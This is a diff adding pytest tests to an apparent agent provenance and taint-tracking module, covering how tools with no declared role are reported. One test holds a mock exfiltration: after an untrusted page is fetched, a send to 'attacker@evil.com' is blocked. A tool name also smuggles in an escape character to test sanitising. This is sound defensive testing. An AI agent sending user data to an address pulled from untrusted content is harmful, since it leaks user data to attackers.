@@ -19,6 +19,7 @@ from agentserver.provenance import (
     TaintStore,
     TaintViolationError,
     Trust,
+    read_policy,
     tracked_tool,
 )
 
@@ -506,3 +507,53 @@ def test_a_new_sleuth_never_finds_itself_in_the_run_of_one_that_is_gone() -> Non
         del gone
         fresh = Sleuth(mode="audit")
         assert fresh.engine.rules is fresh.policy
+
+
+# Tools of which nothing is declared
+
+
+def test_in_enforce_an_undeclared_tool_is_listed_and_logged_once_in_a_run(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    sleuth = Sleuth(untrusted=["fetch_url"], mode="enforce")
+    fetch, look = sleuth.track(lambda: PAGE, "fetch_url"), sleuth.track(lambda: "ok", "look_up")
+    for _ in range(2):
+        sleuth.reset(QUERY)
+        caplog.clear()
+        look(), look(), fetch()
+        (line,) = [line for line in sleuth.report().splitlines() if "look_up" in line]
+        assert line == (
+            "nothing is declared of look_up, so it is judged as source and sink; write what it is: "
+            "sources: [look_up], sinks: [look_up], trusted: [look_up], inert: [look_up] or relays: [look_up]"
+        )
+        assert [entry.getMessage() for entry in caplog.records if entry.name == "agentserver.provenance"] == [
+            line
+        ]
+
+
+def test_the_line_to_write_ends_the_listing() -> None:
+    for key in ("sources", "sinks", "trusted", "inert", "relays"):
+        sleuth = Sleuth(policy=read_policy(f"mode: enforce\n{key}: [look_up]"))
+        sleuth.reset(QUERY)
+        sleuth.track(lambda: "ok", "look_up")()
+        assert sleuth.report() == "Provenance violations: ✓ none"
+
+
+@pytest.mark.parametrize("mode", ["audit", "confirm"])
+def test_in_other_modes_no_undeclared_tool_is_listed(mode: str) -> None:
+    sleuth = Sleuth(mode=mode)
+    sleuth.track(lambda: "ok", "look_up")()
+    assert sleuth.report() == "Provenance violations: ✓ none"
+
+
+def test_a_refused_call_and_an_undeclared_tool_are_told_in_turn() -> None:
+    sleuth = Sleuth(untrusted=["fetch_url"], mode="enforce")
+    sleuth.reset("Summarise the page.")
+    fetch, send = sleuth.track(lambda: PAGE, "fetch_url"), sleuth.track(lambda to: "sent", "send\x1b_it")
+    fetch()
+    with pytest.raises(TaintViolationError):
+        send("attacker@evil.com")
+    told = sleuth.report()
+    assert told.startswith("Provenance violations: 1\n\n")
+    assert "\x1b" not in told.splitlines()[-1]
+    assert told.splitlines()[-1].startswith("nothing is declared of ")
